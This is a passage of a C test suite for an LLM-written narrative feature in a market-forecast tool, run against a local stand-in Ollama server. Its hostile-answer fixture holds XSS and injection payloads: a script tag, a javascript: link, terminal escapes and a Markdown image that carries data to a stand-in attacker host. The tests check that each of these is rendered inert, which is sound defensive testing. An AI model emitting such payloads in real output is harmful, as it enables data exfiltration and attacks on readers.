/*
 * analyst/narrative (the optional `kronos analyze --llm-url` narrative) against a stand-in
 * Ollama server: libmicrohttpd on 127.0.0.1, ephemeral port, in this process, one thread per
 * connection so a deliberately slow answer blocks nothing else. The stand-in checks every
 * request (model, "stream": false, temperature 0, the prompt carries the report's
 * probability-up figure) and answers by the first path segment: /ok, /ndjson, /fail500,
 * /sleep, /figures, /garbage, /cut (each followed by /api/generate).
 *
 *   - URL handling, answer parsing (one object, NDJSON, errors) and the numeric guard, alone;
 *   - the prompt holds only the report's figures and summary, and instructions without digits;
 *   - success: the text lands in JSON, Markdown and HTML, and nothing else in the report
 *     changes; NDJSON answers; HTTP 500, connection refused, timeout and bad answers leave
 *     narrative null with an error; figures not in the report give the warning;
 *   - a batch: one narrative per symbol, and a dead server is waited for only once;
 *   - the executable: `analyze --llm-url` against the stand-in, the same numbers as without
 *     it, a refused connection only warns, bad flags exit 2.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <math.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cjson/cJSON.h>
#include <microhttpd.h>

#include "engine_helpers.h"
#include "test_support.h"

#include "analyst/analyze.h"
#include "analyst/narrative.h"
#include "analyst/render.h"
#include "base/timeutil.h"
#include "series/candles.h"

#define MODEL_DIR KR_SOURCE_DIR "/models/kronos-demo"
#define TEST_MODEL "stand-in-llm"
#define SLEEP_SECONDS 3.0
#define LABEL_TAIL \
    " from the numbers above; the numbers come from kronos, not from the language model)"

/* ------------------------------------------------------------------ the stand-in server */

enum { M_OK, M_NDJSON, M_FAIL500, M_SLEEP, M_FIGURES, M_GARBAGE, M_CUT, M_HOSTILE, M_ESCERR, M_N };
static const char *k_modes[M_N] = { "ok",      "ndjson", "fail500", "sleep", "figures",
                                    "garbage", "cut",    "hostile", "escerr" };

/* What /hostile answers: a terminal escape (ESC and the one-byte C1 CSI), a bidi override, a
 * byte that is not UTF-8, HTML, a Markdown image whose URL would carry data away, and lines
 * that would be a heading, a table and a setext underline in Markdown. */
#define HOSTILE_TEXT                                                        \
    "Paths\x1b]0;owned\x07 rise\xc2\x9b"                                    \
    "2J \xe2\x80\xae"                                                       \
    "evil\xff <script>alert(1)</script> "                                   \
    "![x](http://evil.example/p.png?d=AAPL) [click](javascript:alert(1))\n" \
    "# BUY NOW\n| a | b |\n|---|---|\nSell\n==="

static struct MHD_Daemon *g_mhd;
static int g_port, g_closed_port;
static atomic_int g_hits[M_N];
static atomic_int g_stop;

/* What the stand-in accepts, set by the test thread before each request; what it saw. */
static pthread_mutex_t g_mu = PTHREAD_MUTEX_INITIALIZER;
static char g_expect_model[128] = TEST_MODEL;
static char g_expect_prob[4][64]; /* accepted prob_up_pct figures, e.g. "87.5"; "" unused */
static char g_last_prompt[32768];

typedef struct req {
    char *body;
    size_t len;
} req;

static enum MHD_Result respond(struct MHD_Connection *c, unsigned status, const char *type,
                               const char *body) {
    struct MHD_Response *r =
        MHD_create_response_from_buffer(strlen(body), (void *)body, MHD_RESPMEM_MUST_COPY);
    MHD_add_response_header(r, "Content-Type", type);
    enum MHD_Result ret = MHD_queue_response(c, status, r);
    MHD_destroy_response(r);
    return ret;
}

static enum MHD_Result reject(struct MHD_Connection *c, unsigned status, const char *why) {
    char b[512];
    snprintf(b, sizeof b, "{\"error\":\"stand-in: %s\"}", why);
    return respond(c, status, "application/json", b);
}

/* The whole request is in; check it and answer as the mode says. */
static enum MHD_Result handle(struct MHD_Connection *c, const char *url, const char *method,
                              const req *q) {
    const char *suffix = "/api/generate";
    size_t ul = strlen(url), sl = strlen(suffix);
    int mode = -1;
    if (ul > sl + 1 && !strcmp(url + ul - sl, suffix))
        for (int m = 0; m < M_N; m++)
            if (strlen(k_modes[m]) == ul - sl - 1 && !strncmp(url + 1, k_modes[m], ul - sl - 1))
                mode = m;
    if (mode < 0) return reject(c, 404, "no such path");
    if (strcmp(method, "POST")) return reject(c, 405, "POST only");
    atomic_fetch_add(&g_hits[mode], 1);

    cJSON *j = q->body ? cJSON_ParseWithLength(q->body, q->len) : NULL;
    const cJSON *model = cJSON_GetObjectItemCaseSensitive(j, "model");
    const cJSON *prompt = cJSON_GetObjectItemCaseSensitive(j, "prompt");
    const cJSON *stream = cJSON_GetObjectItemCaseSensitive(j, "stream");
    const cJSON *temp = cJSON_GetObjectItemCaseSensitive(
        cJSON_GetObjectItemCaseSensitive(j, "options"), "temperature");
    char prob[64] = "";
    const char *why = NULL;
    pthread_mutex_lock(&g_mu);
    if (!j)
        why = "body is not JSON";
    else if (!cJSON_IsString(model) || strcmp(model->valuestring, g_expect_model))
        why = "wrong model";
    else if (!cJSON_IsString(prompt))
        why = "no prompt";
    else if (!cJSON_IsFalse(stream))
        why = "stream is not false";
    else if (!cJSON_IsNumber(temp) || temp->valuedouble != 0)
        why = "temperature is not 0";
    if (!why) {
        snprintf(g_last_prompt, sizeof g_last_prompt, "%s", prompt->valuestring);
        for (int i = 0; i < 4 && !prob[0]; i++) {
            char needle[96];
            snprintf(needle, sizeof needle, "\"prob_up_pct\":%s,", g_expect_prob[i]);
            if (g_expect_prob[i][0] && strstr(prompt->valuestring, needle))
                snprintf(prob, sizeof prob, "%s", g_expect_prob[i]);
        }
        if (!prob[0]) why = "the prompt lacks the expected prob_up_pct figure";
    }
    pthread_mutex_unlock(&g_mu);
    cJSON_Delete(j);
    if (why) return reject(c, 400, why);

    char text[1024], b[4096];
    /* Longer than the client's timeout, then an answer nobody waits for any more; the stop
     * flag keeps teardown quick. */
    if (mode == M_SLEEP)
        for (double t = 0; t < SLEEP_SECONDS && !atomic_load(&g_stop); t += 0.05) usleep(50000);
    switch (mode) {
    case M_SLEEP:
    case M_OK:
        snprintf(text, sizeof text,
                 "\n  In the model's sampled paths, about %s%% finish above the last close. These "
                 "are statistics "
                 "of a model's forecasts, not a promise.\n",
                 prob);
        break;
    case M_FIGURES:
        snprintf(text, sizeof text,
                 "About %s%% of paths finish higher, and the model expects a 4321.987%% gain.",
                 prob);
        break;
    case M_FAIL500: return reject(c, 500, "model crashed");
    case M_HOSTILE: snprintf(text, sizeof text, "%s", HOSTILE_TEXT); break;
    case M_ESCERR:
        return respond(c, 500, "application/json",
                       "{\"error\":\"bad\\u001b[2J\\u001b]0;owned\\u0007 \\u009b\xff model\"}");
    case M_GARBAGE: return respond(c, 200, "text/html", "<html>not json</html>");
    case M_NDJSON:
    case M_CUT:
        snprintf(
            b, sizeof b,
            "{\"model\":\"%s\",\"response\":\"About \",\"done\":false}\r\n"
            "{\"model\":\"%s\",\"response\":\"%s%% of <paths> finish higher & \",\"done\":false}\n"
            "{\"model\":\"%s\",\"response\":\"that is all.\\n\\nSecond "
            "paragraph.\",\"done\":false}\n%s",
            TEST_MODEL, TEST_MODEL, prob, TEST_MODEL,
            mode == M_CUT ? ""
                          : "{\"model\":\"" TEST_MODEL
                            "\",\"response\":\"\",\"done\":true,\"total_duration\":4711}\n");
        return respond(c, 200, "application/x-ndjson", b);
    }
    cJSON *o = cJSON_CreateObject();
    cJSON_AddStringToObject(o, "model", TEST_MODEL);
    cJSON_AddStringToObject(o, "created_at", "2025-08-01T00:00:00Z");
    cJSON_AddStringToObject(o, "response", text);
    cJSON_AddTrueToObject(o, "done");
    cJSON_AddNumberToObject(o, "total_duration", 123456789);
    char *s = cJSON_PrintUnformatted(o);
    cJSON_Delete(o);
    enum MHD_Result ret = respond(c, 200, "application/json", s);
    free(s);
    return ret;
}

static enum MHD_Result on_access(void *cls, struct MHD_Connection *c, const char *url,
                                 const char *method, const char *version, const char *upload,
                                 size_t *upload_size, void **ctx) {
    (void)cls;
    (void)version;
    req *q = *ctx;
    if (!q) {
        *ctx = q = calloc(1, sizeof *q);
        return q ? MHD_YES : MHD_NO;
    }
    if (*upload_size) {
        char *nb = realloc(q->body, q->len + *upload_size + 1);
        if (!nb) return MHD_NO;
        q->body = nb;
        memcpy(q->body + q->len, upload, *upload_size);
        q->len += *upload_size;
        q->body[q->len] = 0;
        *upload_size = 0;
        return MHD_YES;
    }
    return handle(c, url, method, q);
}

static void on_completed(void *cls, struct MHD_Connection *c, void **ctx,
                         enum MHD_RequestTerminationCode toe) {
    (void)cls;
    (void)c;
    (void)toe;
    req *q = *ctx;
    if (q) free(q->body);
    free(q);
    *ctx = NULL;
}

static int start_stand_in(void) {
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    a.sin_port = 0;
    g_mhd = MHD_start_daemon(
        MHD_USE_INTERNAL_POLLING_THREAD | MHD_USE_THREAD_PER_CONNECTION | MHD_USE_POLL, 0, NULL,
        NULL, on_access, NULL, MHD_OPTION_SOCK_ADDR, (struct sockaddr *)&a,
        MHD_OPTION_NOTIFY_COMPLETED, on_completed, NULL, MHD_OPTION_END);
    if (!g_mhd) return -1;
    const union MHD_DaemonInfo *di = MHD_get_daemon_info(g_mhd, MHD_DAEMON_INFO_BIND_PORT);
    g_port = di ? di->port : 0;
    return g_port > 0 ? 0 : -1;
}

/* A loopback port with nothing listening: bound, read back, closed. */
static int closed_port(void) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    socklen_t al = sizeof a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof a) != 0 ||
        getsockname(fd, (struct sockaddr *)&a, &al) != 0) {
        if (fd >= 0) close(fd);
        return -1;
    }
    close(fd);
    return ntohs(a.sin_port);
}

/* ------------------------------------------------------------------ fixtures */

static kr_model *g_model;
static kr_context *g_ctx; /* forecasts and analyses in the test itself */
static kr_candles *g_aapl, *g_msft;
static kr_report_set *g_set; /* AAPL, MSFT: 5 bars, 8 paths, seed 3 */
static const char *g_tmp; /* kr_test_dir() */
static char g_db[1200];

static kr_candles *read_csv(const char *path) {
    kr_candles *c = NULL;
    kr_error err;
    if (kr_candles_read_csv(path, &c, &err) != KR_OK) fprintf(stderr, "%s\n", err.message);
    return c;
}

static void keep_last(kr_candles *c, int64_t n) {
    memmove(c->timestamps, c->timestamps + (c->n - n), (size_t)n * sizeof(int64_t));
    memmove(c->values, c->values + (c->n - n) * KR_N_FEATURES,
            (size_t)n * KR_N_FEATURES * sizeof(double));
    c->n = n;
}

/* The prob_up_pct figure of r as the prompt writes it. */
static void prob_figure(const kr_report *r, char *buf, size_t cap) {
    snprintf(buf, cap, "%.1f", r->prob_up * 100.0);
}

static void expect_probs(const char *a, const char *b) {
    pthread_mutex_lock(&g_mu);
    memset(g_expect_prob, 0, sizeof g_expect_prob);
    snprintf(g_expect_prob[0], sizeof g_expect_prob[0], "%s", a);
    if (b) snprintf(g_expect_prob[1], sizeof g_expect_prob[1], "%s", b);
    pthread_mutex_unlock(&g_mu);
}

static void expect_report(const kr_report *r) {
    char p[64];
    prob_figure(r, p, sizeof p);
    expect_probs(p, NULL);
}

static int setup(void **state) {
    (void)state;
    /* Requests go to 127.0.0.1 directly, whatever proxy the environment names. */
    const char *proxies[] = { "http_proxy",  "HTTP_PROXY", "https_proxy",
                              "HTTPS_PROXY", "all_proxy",  "ALL_PROXY" };
    for (size_t i = 0; i < sizeof proxies / sizeof proxies[0]; i++) unsetenv(proxies[i]);
    if (start_stand_in() != 0 || (g_closed_port = closed_port()) <= 0) {
        fprintf(stderr, "cannot start the stand-in server on 127.0.0.1\n");
        return -1;
    }
    kr_error err;
    kr_model_params mp = kr_model_default_params();
    if (kr_model_load(MODEL_DIR "/predictor", MODEL_DIR "/tokenizer", &mp, &g_model, &err) !=
        KR_OK) {
        fprintf(stderr, "%s\n", err.message);
        return -1;
    }
    kr_context_params cp = kr_context_default_params();
    cp.n_threads = 2;
    if (kr_context_create(g_model, &cp, &g_ctx, &err) != KR_OK) {
        fprintf(stderr, "%s\n", err.message);
        return -1;
    }
    g_aapl = read_csv(KR_SOURCE_DIR "/data/AAPL_1d.csv");
    g_msft = read_csv(KR_SOURCE_DIR "/data/MSFT_1d.csv");
    if (!g_aapl || !g_msft) return -1;
    keep_last(g_aapl, 300);
    keep_last(g_msft, 300);
    kr_analyze_item items[2] = { { "AAPL", "1d", g_aapl, NULL, NULL },
                                 { "MSFT", "1d", g_msft, NULL, NULL } };
    kr_analyze_params p = kr_analyze_default_params();
    p.horizon = 5;
    p.paths = 8;
    p.max_paths = 8;
    p.seed = 3;
    if (kr_analyze(g_ctx, items, 2, &p, &g_set, &err) != KR_OK) {
        fprintf(stderr, "%s\n", err.message);
        return -1;
    }
    g_tmp = kr_test_dir();
    if (!g_tmp) return -1;
    snprintf(g_db, sizeof g_db, "%s/k.db", g_tmp);
    return 0;
}

static int teardown(void **state) {
    (void)state;
    atomic_store(&g_stop, 1);
    if (g_mhd) MHD_stop_daemon(g_mhd);
    kr_report_set_free(g_set);
    kr_context_free(g_ctx);
    g_ctx = NULL;
    kr_model_free(g_model);
    kr_candles_free(g_aapl);
    kr_candles_free(g_msft);
    return 0;
}

static kr_narrative_params params(const char *mode, double timeout_s) {
    static char url[256];
    kr_narrative_params p = kr_narrative_default_params();
    snprintf(url, sizeof url, "http://127.0.0.1:%d/%s", g_port, mode);
    p.url = url;
    p.model = TEST_MODEL;
    p.timeout_s = timeout_s;
    return p;
}

static kr_narrative *generate(const kr_report *r, const kr_narrative_params *p) {
    kr_narrative *n = NULL;
    kr_error err = { 0 };
    if (kr_narrative_generate(r, p, &n, &err) != KR_OK)
        fail_msg("kr_narrative_generate: %s", err.message);
    assert_non_null(n);
    return n;
}

/* noinline: GCC 12 otherwise mistakes pointers into the returned text for pointers to the
 * local `out` (a -Wdangling-pointer false positive). */
__attribute__((noinline)) static char *render(kr_report_format f) {
    char *out = NULL;
    kr_error err;
    if (kr_render(g_set, f, &out, &err) != KR_OK) fail_msg("render: %s", err.message);
    return out;
}

static cJSON *report_json(cJSON *doc, int i) {
    return cJSON_GetArrayItem(cJSON_GetObjectItem(doc, "reports"), i);
}

/* ------------------------------------------------------------------ pieces alone */

static void test_endpoint(void **state) {
    (void)state;
    static const char *ok[][2] = {
        { "http://127.0.0.1:11434", "http://127.0.0.1:11434/api/generate" },
        { "http://127.0.0.1:11434/", "http://127.0.0.1:11434/api/generate" },
        { "http://127.0.0.1:11434/api/generate", "http://127.0.0.1:11434/api/generate" },
        { "http://127.0.0.1:11434/api/generate//", "http://127.0.0.1:11434/api/generate" },
        { "HTTPS://llm.example/ollama", "HTTPS://llm.example/ollama/api/generate" },
        /* The suffix goes on the path, not into the query string. */
        { "http://h:1/ollama?key=abc", "http://h:1/ollama/api/generate?key=abc" },
        { "http://h:1/api/generate/?key=abc", "http://h:1/api/generate?key=abc" },
    };
    char out[256];
    kr_error err;
    for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
        assert_int_equal(kr_narrative_endpoint(ok[i][0], out, sizeof out, &err), KR_OK);
        assert_string_equal(out, ok[i][1]);
    }
    static const char *bad[] = { "",          "ftp://host",  "127.0.0.1:11434", "http://",
                                 "http:///x", "http://a b/", "http://h/x#frag" };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
        assert_int_equal(kr_narrative_endpoint(bad[i], out, sizeof out, &err), KR_ERR_INVALID_ARG);
    assert_int_equal(kr_narrative_endpoint("http://h", out, 10, &err), KR_ERR_INVALID_ARG);
    assert_int_equal(kr_narrative_endpoint(NULL, out, sizeof out, &err), KR_ERR_INVALID_ARG);
    /* Errors show the URL without its password or query string. */
    static const char *secret[] = { "http://user:s3cret@a b/", "ftp://user:s3cret@h/",
                                    "http://h/x?key=s3cret#f", "http://h/\x1b[2J?key=s3cret" };
    for (size_t i = 0; i < sizeof secret / sizeof secret[0]; i++) {
        assert_int_equal(kr_narrative_endpoint(secret[i], out, sizeof out, &err),
                         KR_ERR_INVALID_ARG);
        if (strstr(err.message, "s3cret") || strchr(err.message, 0x1b))
            fail_msg("'%s' gave '%s'", secret[i], err.message);
    }

    /* Credentials in the URL are used but never written into the report. */
    kr_narrative_params p = kr_narrative_default_params();
    assert_string_equal(p.model, "gemma3");
    assert_true(p.timeout_s == 60.0);
    char url[256];
    snprintf(url, sizeof url, "http://user:secret@127.0.0.1:%d/ok", g_port);
    p.url = url;
    p.model = TEST_MODEL;
    p.timeout_s = 10;
    expect_report(g_set->reports[0]);
    kr_narrative *n = generate(g_set->reports[0], &p);
    assert_non_null(n->text);
    snprintf(out, sizeof out, "http://127.0.0.1:%d/ok/api/generate", g_port);
    assert_string_equal(n->url, out);
    kr_narrative_free(n);
    kr_narrative_free(NULL);
    /* A query string (a proxy's key) reaches the server after the path, and is not shown. */
    snprintf(url, sizeof url, "http://127.0.0.1:%d/ok?token=s3cret", g_port);
    n = generate(g_set->reports[0], &p);
    if (!n->text) fail_msg("%s", n->error);
    snprintf(out, sizeof out, "http://127.0.0.1:%d/ok/api/generate?...", g_port);
    assert_string_equal(n->url, out);
    kr_narrative_free(n);
}

static void parse_ok(const char *body, const char *want) {
    char *t = NULL;
    kr_error err = { 0 };
    if (kr_narrative_parse_answer(body, strlen(body), &t, &err) != KR_OK)
        fail_msg("'%s': %s", body, err.message);
    assert_string_equal(t, want);
    free(t);
}

static void parse_bad(const char *body, const char *needle) {
    char *t = NULL;
    kr_error err = { 0 };
    assert_int_equal(kr_narrative_parse_answer(body, strlen(body), &t, &err), KR_ERR_FORMAT);
    assert_null(t);
    if (!strstr(err.message, needle))
        fail_msg("'%s': message '%s' lacks '%s'", body, err.message, needle);
}

static void test_parse_answer(void **state) {
    (void)state;
    parse_ok("{\"model\":\"m\",\"response\":\"  Hello there.\\n\",\"done\":true}", "Hello there.");
    parse_ok("{\n  \"response\": \"Pretty\",\n  \"done\": true\n}\n", "Pretty");
    parse_ok("{\"response\":\"no done key\"}", "no done key");
    parse_ok("{\"response\":\"a\\u001b[31mred\\r\\nline\\ttab\\u007f\",\"done\":true}",
             "a [31mred\nline\ttab");
    parse_ok("{\"response\":\"One \",\"done\":false}\r\n{\"response\":\"two\",\"done\":false}\n\n"
             "{\"response\":\"\",\"done\":true}\n",
             "One two");
    parse_bad("{\"error\":\"model 'x' not found\"}", "model 'x' not found");
    parse_bad("{\"response\":\"a\",\"done\":false}\n{\"error\":\"out of memory\"}\n",
              "out of memory");
    parse_bad("{\"done\":true}", "no \"response\"");
    parse_bad("{\"response\":\"a\",\"done\":false}\n{\"response\":\"b\",\"done\":false}\n",
              "ended before");
    parse_bad("<html>busy</html>", "not Ollama JSON (line 1: '<html>busy</html>')");
    parse_bad("{\"response\":\"a\"}\nnot json\n", "line 2");
    parse_bad("{\"response\":\" \\n \",\"done\":true}", "no text");
    parse_bad("", "empty");
    parse_bad("{\"response\":5}", "not a string");
    parse_bad("[1,2]", "not Ollama JSON");
}

static void test_guard(void **state) {
    (void)state;
    const char *data =
        "{\"prob_up_pct\":87.5,\"last_close\":202.38,\"close_p90\":240.10,\"rows\":2913,"
        "\"macd\":1.234e-05,\"last_bar\":\"2025-08-01\",\"loss_pct\":-0.26}";
    static const struct {
        const char *text;
        int bad;
        const char *first;
    } cases[] = {
        { "No figures at all.", 0, "" },
        { "About 88% of paths finish higher.", 0, "" },
        { "Exactly 87.5% of them.", 0, "" },
        { "A last close of 202.38, a p90 of 240.1 and 240.10.", 0, "" },
        { "Over 2,913 rows, or 2913.", 0, "" },
        { "On 2025-08-01, that is August 1, 2025.", 0, "" },
        { "A MACD of 0.00001234 and a loss of 0.26% (-0.26).", 0, "" },
        { "Some 87.53% of paths.", 1, "87.53" },
        { "It could gain 12.5% or 14%.", 2, "12.5" },
        { "A million: 1,000,000.", 1, "1,000,000" },
        /* The digits of a key are not a figure: close_p90 gave no 90. */
        { "A 90% chance of a rise.", 1, "90" },
        /* A date's parts are figures for dates only: no "8%" from 2025-08-01. */
        { "On August 1, 2025 (08/01), an 8% gain or 1 percent.", 2, "8" },
    };
    char first[48];
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        int bad = kr_narrative_unsupported_figures(cases[i].text, data, first, sizeof first);
        if (bad != cases[i].bad || strcmp(first, cases[i].first))
            fail_msg("'%s': %d unsupported (want %d), first '%s' (want '%s')", cases[i].text, bad,
                     cases[i].bad, first, cases[i].first);
    }
    assert_int_equal(kr_narrative_unsupported_figures(NULL, data, first, sizeof first), 0);
}

/* The real prompt's keys carry digits (rsi_14, var95_pct, close_p90, volume_ratio_5_20):
 * a narrative inventing "a 95% chance" must not pass because of them. */
static void test_guard_ignores_keys(void **state) {
    (void)state;
    const char *data = "{\"rsi_14\":55.2,\"var95_pct\":3.10,\"close_p90\":240.10,"
                       "\"summary\":[\"RSI 55.2 over 14 bars.\"]}";
    char first[48];
    assert_int_equal(kr_narrative_unsupported_figures("A 95% chance; a p90 of 240.1, RSI_14 55.2.",
                                                      data, first, sizeof first),
                     1);
    assert_string_equal(first, "95");
    /* Numbers within a string value (a summary sentence) are figures given. */
    assert_int_equal(kr_narrative_unsupported_figures("The RSI over 14 bars is 55.2.", data, first,
                                                      sizeof first),
                     0);
    /* But not the summary's fixed wording, nor a date's parts inside a sentence: every real
     * summary says "the 95% value-at-risk", "80% of paths" and "p10-p90" and names the last
     * bar's date, so "a 95% chance" or "the 8% rule" always passed. */
    const char *real =
        "{\"var95_pct\":\"3.10\",\"horizon_bars\":5,\"summary\":["
        "\"Over the next 5 bars (1d) the model leans up: 86% of 674 sampled paths close above "
        "the last close of 202.38 (2025-08-01 16:00).\","
        "\"Expected return +3.77%; 80% of paths end between 195.1 and 214.2.\","
        "\"Risk: the 95% value-at-risk of the 5-bar return is a loss of 3.10%.\","
        "\"Calibration: the p10-p90 band held 70% (naive 60%; 80% is the target).\"]}";
    static const struct {
        const char *text;
        const char *first;
    } invented[] = {
        { "There is a 95% chance of a rise.", "95" },
        { "Think of the 8% rule.", "8" },
        { "An 80% likely gain.", "80" },
        { "About 10% of the time.", "10" },
        { "A 16% jump.", "16" },
    };
    for (size_t i = 0; i < sizeof invented / sizeof invented[0]; i++) {
        if (kr_narrative_unsupported_figures(invented[i].text, real, first, sizeof first) != 1 ||
            strcmp(first, invented[i].first) != 0)
            fail_msg("'%s' passed the guard (first '%s')", invented[i].text, first);
    }
    assert_int_equal(
        kr_narrative_unsupported_figures("Of 674 paths, 86% end higher over 5 bars; VaR 3.10%, "
                                         "70% coverage (naive 60%) on 2025-08-01.",
                                         real, first, sizeof first),
        0);
}

/* Cleaning an answer: no control character (C0, DEL, C1), no bidi override, valid UTF-8. */
static void test_parse_answer_hostile(void **state) {
    (void)state;
    parse_ok("{\"response\":\"a\\u009bb\\u202ec\xff\xfe"
             "d\xc0\xaf"
             "e\xed\xa0\x80"
             "f\\u00e9\",\"done\":true}",
             "a b c\xef\xbf\xbd\xef\xbf\xbd"
             "d\xef\xbf\xbd\xef\xbf\xbd"
             "e\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd"
             "f\xc3\xa9");
}

static int has_byte(const char *s, unsigned char lo, unsigned char hi) {
    for (; *s; s++)
        if ((unsigned char)*s >= lo && (unsigned char)*s <= hi) return 1;
    return 0;
}

/* An answer written to attack the reader: every rendering shows it inert. */
static void test_hostile_answer(void **state) {
    (void)state;
    kr_report *r = g_set->reports[0];
    expect_report(r);
    kr_narrative_params p = params("hostile", 10);
    kr_narrative *n = generate(r, &p);
    if (!n->text) fail_msg("%s", n->error);
    assert_null(strchr(n->text, 0x1b));
    assert_null(strchr(n->text, 0x07));
    assert_null(strstr(n->text, "\xc2\x9b"));
    assert_null(strstr(n->text, "\xe2\x80\xae"));
    assert_non_null(strstr(n->text, "evil\xef\xbf\xbd ")); /* the bad byte as U+FFFD */
    r->narrative = n;
    char *json = render(KR_FORMAT_JSON), *md = render(KR_FORMAT_MD), *html = render(KR_FORMAT_HTML);
    r->narrative = NULL;
    const char *docs[] = { json, md, html };
    for (int i = 0; i < 3; i++) {
        assert_false(has_byte(docs[i], 0x01, 0x08) || has_byte(docs[i], 0x1b, 0x1b));
        assert_null(strstr(docs[i], "\xff"));
        /* JSON carries the text as data; the documents must not carry it as markup. */
        if (docs[i] != json) assert_null(strstr(docs[i], "<script>alert"));
    }
    /* The JSON is valid and keeps the text; Markdown shows the image and link as text. */
    cJSON *doc = cJSON_Parse(json);
    cJSON *jn = cJSON_GetObjectItem(report_json(doc, 0), "narrative");
    assert_string_equal(cJSON_GetObjectItem(jn, "text")->valuestring, n->text);
    cJSON_Delete(doc);
    assert_null(strstr(md, "![x]("));
    assert_null(strstr(md, "[click]("));
    assert_non_null(strstr(md, "!\\[x\\](http://evil.example/p.png?d=AAPL)"));
    assert_non_null(strstr(md, "&lt;script&gt;"));
    /* The model's lines stay quoted text: no heading, table or setext underline of its own. */
    assert_non_null(strstr(md, "\n> \\# BUY NOW\n"));
    assert_non_null(strstr(md, "\n> \\| a \\| b \\|\n"));
    assert_non_null(strstr(md, "\n> \\=\\=\\=") || strstr(md, "\n> \\==="));
    assert_null(strstr(md, "\n> # "));
    assert_null(strstr(md, "\n> | a"));
    assert_non_null(strstr(html, "&lt;script&gt;alert(1)&lt;/script&gt;"));
    kr_narrative_free(n);

    /* An error body with escapes: the reason is quoted cleaned, on one line. */
    p = params("escerr", 10);
    n = generate(r, &p);
    assert_null(n->text);
    assert_int_equal(n->http_status, 500);
    assert_null(strchr(n->error, 0x1b));
    assert_null(strchr(n->error, 0x07));
    assert_null(strstr(n->error, "\xc2\x9b"));
    assert_null(strstr(n->error, "\xff"));
    if (!strstr(n->error, "HTTP 500: bad [2J ]0;owned  ") || !strstr(n->error, " model"))
        fail_msg("error '%s'", n->error);
    free(json);
    free(md);
    free(html);
    kr_narrative_free(n);
}

static void test_prompt_and_body(void **state) {
    (void)state;
    const kr_report *r = g_set->reports[0];
    char *prompt = NULL, *facts = NULL, *body = NULL;
    kr_error err;
    assert_int_equal(kr_narrative_prompt(r, &prompt, &err), KR_OK);
    assert_int_equal(kr_narrative_facts(r, &facts, &err), KR_OK);
    /* The instructions carry no number of their own; the data follows them. */
    const char *data = strstr(prompt, "DATA:\n");
    assert_non_null(data);
    for (const char *p = prompt; p < data; p++)
        if (*p >= '0' && *p <= '9') fail_msg("digit in the instructions: '%.40s'", p);
    assert_non_null(strstr(prompt, "advice"));
    assert_int_equal(strlen(data + 6), strlen(facts) + 1);
    assert_memory_equal(data + 6, facts, strlen(facts));
    assert_string_equal(data + 6 + strlen(facts), "\n");
    cJSON *f = cJSON_Parse(facts);
    assert_non_null(f);
    char want[64];
    prob_figure(r, want, sizeof want);
    char needle[96];
    snprintf(needle, sizeof needle, "\"prob_up_pct\":%s,", want);
    assert_non_null(strstr(facts, needle));
    assert_string_equal(cJSON_GetObjectItem(f, "symbol")->valuestring, "AAPL");
    assert_int_equal(cJSON_GetObjectItem(f, "horizon_bars")->valueint, 5);
    assert_int_equal(cJSON_GetObjectItem(f, "sampled_paths")->valueint, 8);
    assert_true(cJSON_IsNull(cJSON_GetObjectItem(f, "calibration")));
    /* The errors of the figures a reader acts on, as the report prints them. */
    const cJSON *se = cJSON_GetObjectItem(f, "standard_error");
    assert_true(cJSON_IsObject(se));
    assert_true(cJSON_GetObjectItem(se, "prob_up_pct")->valuedouble ==
                round(r->prob_up_se * 1000.0) / 10.0);
    const size_t last = (size_t)(r->horizon - 1) * KR_N_FEATURES + KR_CLOSE;
    assert_true(fabs(cJSON_GetObjectItem(se, "mean_path_close")->valuedouble -
                     r->fc_mean_se[last]) <= 0.005 + 1e-9);
    /* 8 paths: the bands' errors are computable (KR_STAT_QUANTILE_SE_MIN_N). */
    assert_true(cJSON_IsNumber(cJSON_GetObjectItem(se, "close_p90")));
    assert_int_equal(cJSON_GetArraySize(se), 8);
    assert_non_null(strstr(prompt, "standard_error"));
    /* The language model is told when the checkpoint is a demo, and what to say then. */
    assert_true(cJSON_IsBool(cJSON_GetObjectItem(f, "demo_model")));
    assert_int_equal(cJSON_IsTrue(cJSON_GetObjectItem(f, "demo_model")), r->meta.demo != 0);
    assert_non_null(strstr(prompt, "demonstration checkpoint"));
    /* Key figures and the summary only: no per-step forecast, no paths, no metadata. */
    cJSON *s = cJSON_GetObjectItem(f, "summary");
    assert_int_equal(cJSON_GetArraySize(s), r->n_summary);
    for (int i = 0; i < r->n_summary; i++)
        assert_string_equal(cJSON_GetArrayItem(s, i)->valuestring, r->summary[i]);
    assert_null(strstr(facts, "steps"));
    assert_null(strstr(facts, "kronos-demo"));
    assert_null(strstr(facts, "seed"));
    cJSON_Delete(f);

    assert_int_equal(kr_narrative_request_body("gemma3", prompt, &body, &err), KR_OK);
    cJSON *b = cJSON_Parse(body);
    assert_non_null(b);
    assert_string_equal(cJSON_GetObjectItem(b, "model")->valuestring, "gemma3");
    assert_string_equal(cJSON_GetObjectItem(b, "prompt")->valuestring, prompt);
    assert_true(cJSON_IsFalse(cJSON_GetObjectItem(b, "stream")));
    assert_true(
        cJSON_GetObjectItem(cJSON_GetObjectItem(b, "options"), "temperature")->valuedouble == 0);
    assert_int_equal(cJSON_GetArraySize(b), 4);
    cJSON_Delete(b);
    free(body);
    free(facts);
    free(prompt);
}

/* ------------------------------------------------------------------ against the stand-in */

/* The JSON of g_set without the keys a narrative may change (and the clock). */
static cJSON *numbers_only(const char *json) {
    cJSON *doc = cJSON_Parse(json);
    assert_non_null(doc);
    cJSON_DeleteItemFromObject(doc, "generated_at");
    cJSON *rs = cJSON_GetObjectItem(doc, "reports");
    for (cJSON *r = rs->child; r; r = r->next) {
        assert_non_null(cJSON_GetObjectItem(r, "narrative"));
